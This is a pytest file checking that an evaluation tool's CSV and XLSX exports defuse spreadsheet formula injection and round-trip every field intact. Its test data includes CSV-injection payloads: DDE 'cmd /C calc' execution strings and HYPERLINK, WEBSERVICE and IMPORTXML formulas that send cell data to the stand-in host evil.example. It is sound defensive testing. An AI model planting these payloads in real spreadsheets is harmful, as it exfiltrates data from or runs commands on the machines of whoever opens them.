"""Cells that a spreadsheet would calculate: in every table that we write they are text, and come back as they were."""

from __future__ import annotations

import csv
import re
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from eval.gold import Evidence, Fact, GoldItem, GoldSet, PastTurn
from eval.gold_files import read_any, write_any

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"1")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "+86 10 1234",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "=1+1;甲",
    "=1+1|乙",
    "=-+@1",
    "%0A=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "=\u202e1+1",
    "{=1+1}",
    "#REF!",
    "=_xlfn.WEBSERVICE(A1)",
)
STARTS = re.compile(r"^[\s\x00\ufeff]*[=+\-@＝＋－＠\t\r\n]")
"""What makes a formula of a cell in one program or another, after what some of them skip."""


def test_there_are_thirty():
    assert len(FORMULAS) >= 30


@pytest.fixture(scope="module")
def gold() -> GoldSet:
    """Every formula in every field that is text."""
    items = []
    for i, bad in enumerate(FORMULAS):
        item = GoldItem(
            f"q-{i}",
            f"{bad}",
            history=(PastTurn(bad, bad),),
            answers=(bad, "另一种"),
            facts=(Fact(any=(bad, "甲")),),
            forbidden=(bad,),
            evidence=((Evidence(bad, bad),),),
            tags=(bad,),
            split=bad,
            author=bad,
            reviewer=bad,
            source=bad,
            notes=bad,
        )
        items.append(item)
    return GoldSet(tuple(items))


def stripped(value: object) -> object:
    """Without white space at the ends, which no table keeps."""
    if isinstance(value, str):
        return value.strip()
    return value


@pytest.mark.parametrize("chinese", [False, True])
def test_csv(gold, tmp_path, chinese):
    write_any(gold, tmp_path / "gold.csv", chinese=chinese)
    with (tmp_path / "gold.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert len(cells) > 10 * len(FORMULAS)
    assert [cell for cell in cells if STARTS.match(cell)] == []
    assert_same(gold, read_any(tmp_path / "gold.csv"))


@pytest.mark.parametrize("chinese", [False, True])
def test_xlsx(gold, tmp_path, chinese):
    write_any(gold, tmp_path / "gold.xlsx", chinese=chinese)
    sheet = load_workbook(tmp_path / "gold.xlsx").worksheets[0]
    cells = [cell for row in list(sheet.iter_rows())[1:] for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert [cell.value for cell in cells if isinstance(cell.value, str) and STARTS.match(cell.value)] == []
    assert all(cell.hyperlink is None for cell in cells)
    assert_same(gold, read_any(tmp_path / "gold.xlsx"))


def assert_same(gold: GoldSet, read: GoldSet) -> None:
    for item, back in zip(gold.items, read.items, strict=True):
        assert replace(back, id=item.id, question=stripped(back.question)) == replace(
            item, question=stripped(item.question)
        )
